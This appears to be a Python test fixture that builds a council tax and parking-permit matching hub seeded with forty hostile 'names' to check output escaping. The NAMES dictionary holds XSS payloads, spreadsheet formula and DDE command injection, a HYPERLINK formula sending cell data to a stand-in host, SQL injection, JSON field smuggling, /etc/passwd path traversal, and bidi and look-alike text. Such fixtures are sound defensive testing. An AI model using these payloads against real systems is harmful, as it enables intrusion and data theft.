"""Forty names that no council wants, and a hub in which applicants and residents bear them."""

import csv
import itertools
from collections.abc import Mapping
from datetime import date, timedelta
from pathlib import Path

import vh
from tests.ingest.bad_files import HEADERS
from tests.ingest.bad_files import row as tax_row
from tests.ingest.extracts import ROWS
from vh.model import Verdict
from vh.privacy import report
from vh.record.framework import PARTICULARS, PARTICULARS_STAGE, QUESTIONS
from vh.record.making import Document

ELSEWHERE = "http://elsewhere.invalid"
RAN = "window.vhRan=1"
"""What a script of a name would do, so that a test can see it."""

NAMES: Mapping[str, str] = {
    "script": f"<script>{RAN}</script>",
    "script in capitals": f"<SCRIPT SRC={ELSEWHERE}/x.js></SCRIPT>",
    "image that fails": f"<img src=x onerror={RAN}>",
    "image from elsewhere": f"<img src='{ELSEWHERE}/i.png'>",
    "drawing that loads": f"<svg/onload={RAN}>",
    "end of a tag": f"\"><script>{RAN}</script>",
    "end of a title": f"</title></style></textarea><script>{RAN}</script>",
    "frame": "<iframe src='javascript:parent.vhRan=1'></iframe>",
    "link to a script": f"<a href='javascript:{RAN}'>Ada</a>",
    "style": f"<style>@import '{ELSEWHERE}/c.css';*{{display:none}}</style>",
    "attribute": f"' onmouseover='{RAN}' x='",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/r'>",
    "base": f"<base href='{ELSEWHERE}/'>",
    "form": f"<form action='{ELSEWHERE}/f'><input autofocus onfocus={RAN}>",
    "details": f"<details open ontoggle={RAN}>Ada</details>",
    "entities": "&lt;b&gt;Ada&lt;/b&gt; &amp; &#x3c;i&#x3e;",
    "comment": "<!-- Ada --> <![CDATA[Obi]]>",
    "markdown image": f"![Ada]({ELSEWHERE}/m.png)",
    "markdown link": f"[Ada]({ELSEWHERE}/l)",
    "markdown link to a script": f"[Ada](javascript:{RAN})",
    "markdown emphasis": "**Ada** _Obi_ ~~Ray~~ `code`",
    "markdown heading": "# Ada",
    "markdown table": "| a | b |",
    "colour directive": ":red[Ada] :blue-background[Obi]",
    "icon directive": ":material/delete: :smile: :streamlit:",
    "mathematics": r"$\href{javascript:alert(1)}{Ada}$ $$x^2$$",
    "template": "{{7*7}} ${7*7} #{7*7} {% raw %} %s {0} {name}",
    "formula": f"=HYPERLINK(\"{ELSEWHERE}/?\"&A1,\"Ada\")",
    "command": "=cmd|' /C calc'!A0",
    "formula by plus": "+44 20 @SUM(1)",
    "SQL": "Robert'); DROP TABLE resident;--",
    "SQL by union": "' UNION SELECT * FROM resident --",
    "JSON": "\", \"outcome\": \"VERIFIED\", \"x\": \"",
    "path": "../../../../etc/passwd",
    "turned round": "\u202eibO adA\u202c",
    "isolates": "\u2066Ada\u2069\u200fObi",
    "without width": "O\u200bb\u200di\u2060\ufeff",
    "family of emoji": "👩‍👩‍👧‍👦 🏳️‍🌈",
    "look-alikes": "Аdа Оbі",
    "very long": "Ada" + "-Obi" * 240,
}  # fmt: skip
"""What each tries, and the name that tries it."""

_SURNAMED = 2
"""Every second name is a surname, the others are forenames."""


def write_hub(folder: Path) -> str:
    """A matched hub in which every name belongs to an applicant and to a resident, and stands in notes, reasons and names of files; returns
    the token of a key of it."""
    tax, permits, checks = _files(folder)
    with vh.open(folder / "hub.duckdb") as hub:
        hub.record_basis(
            "council_tax", basis=NAMES["image that fails"], reference=NAMES["markdown image"], approver=NAMES["script"],
            until=date.today() + timedelta(days=100),
        )  # fmt: skip
        hub.load("council_tax", tax, as_of=date.today())
        hub.load("applications", permits)
        hub.load("incumbent", checks)
        hub.save_rule_set(hub.rule_set(), note=NAMES["markdown image"])
        hub.match()
        hub.review_sample(30, seed=3)
        queue = hub.queue()
        for place, candidate in enumerate(queue["candidate_id"].to_list()[:6]):
            hub.judge(candidate, list(Verdict)[place % 3], note=list(NAMES.values())[place], officer=NAMES["image that fails"])
        asked = [*((str(stage), str(question)) for stage, question in QUESTIONS), *((PARTICULARS_STAGE, one.key) for one in PARTICULARS)]
        for (stage, question), text in zip(asked, itertools.cycle(NAMES.values())):
            hub.answer_question(stage, question, text[:500])
        hub.export(folder / "lists")
        _papers(hub, folder)
        hub.switch_mode("live", name=NAMES["markdown image"], reason=NAMES["script"])
        return hub.make_key("Parking system", per_minute=6_000)[1]


def _papers(hub: vh.Hub, folder: Path) -> None:
    """Everything that is made to be opened or printed as a page of its own."""
    for document in Document:
        (folder / f"{document}.html").write_text(hub.record_document(document), encoding="utf-8")
    for number, name in enumerate(("script", "image that fails", "markdown image", "style")):
        hits = hub.find_subject(reference=f"HYR{list(NAMES).index(name):04}", forename=NAMES[name], surname=NAMES[name])
        held = hub.subject_access([hit.pick for hit in hits])
        (folder / f"subject-{number}.html").write_text(report.html(held, asked_by=NAMES[name]), encoding="utf-8")


def applications() -> list[dict[str, str]]:
    """The same people as requests to the API."""
    return [
        {
            "application_ref": f"API{number}" if number else NAMES["image that fails"][:60], "forename": _shown(forename), "surname": _shown(surname),
            "address": f"{number} MARSH LANE", "postcode": "E8 1AA", "on": date.today().isoformat(),
        }
        for number, (forename, surname) in enumerate(map(_parts, range(len(NAMES))))
    ]  # fmt: skip


def _shown(text: str) -> str:
    return text[:200]


def _parts(number: int) -> tuple[str, str]:
    name = list(NAMES.values())[number]
    return ("Ada", name) if number % _SURNAMED else (name, "Obi")


def _files(folder: Path) -> tuple[Path, Path, Path]:
    tax, permits, checks = folder / f"<img src=x onerror={RAN}>.csv", folder / "![x](y) :red[z] $x$.csv", folder / "checks.csv"
    tax_rows, permit_rows, check_rows = [], [], []
    for number, hostile in enumerate(NAMES.values()):
        forename, surname = _parts(number)
        place = {"addr1": f"{number} MARSH LANE", "uprn": f"10002{number:07}"}
        # Of a third of the people the record says another forename, or has a letter more, so that an officer looks at the pair.
        given = ("Bea" if forename == "Ada" else "Bea " + forename) if number % 3 == 1 else forename
        tax_rows.append(
            tax_row(
                number, liab_name=f"{surname},MS {given}", lead_liab_forename=given, lead_liab_surname=surname, addr2=hostile[:60], **place
            )
        )
        permit_rows.append(
            ROWS["liberator"] | {
                "application_date": date.today().isoformat(),
                "permit_reference": f"HYR{number:04}" if number % 5 else f"HYR{number:04}{hostile[:40]}", "forename_of_applicant": forename,
                "surname_of_applicant": surname, "address_line_1": place["addr1"], "address_line_2": hostile[:60], "address_line_3": "London",
                "postcode": "E8 1AA", "uprn": place["uprn"] if number % 2 else "", "date_of_birth_of_applicant": "", "status": hostile[:60],
                "permit_type": hostile[:60],
            }
        )  # fmt: skip
        check_rows.append(
            ROWS["citizen_index"] | {"application_ref": permit_rows[-1]["permit_reference"], "ci_outcome": ("matched", "not_matched")[number % 2],
            "final_status": hostile[:60], "final_reason": hostile[:60], "decided_by": hostile[:60]}
        )  # fmt: skip
    tax_rows.append(
        tax_row(900, account_ref="", liab_name=NAMES["script"], lead_liab_surname=NAMES["script"], addr1=NAMES["markdown image"])
    )
    _write(tax, list(HEADERS), tax_rows)
    _write(permits, list(ROWS["liberator"]), [list(one.values()) for one in permit_rows])
    _write(checks, list(ROWS["citizen_index"]), [list(one.values()) for one in check_rows])
    return tax, permits, checks


def _write(path: Path, headers: list[str], rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([headers, *rows])
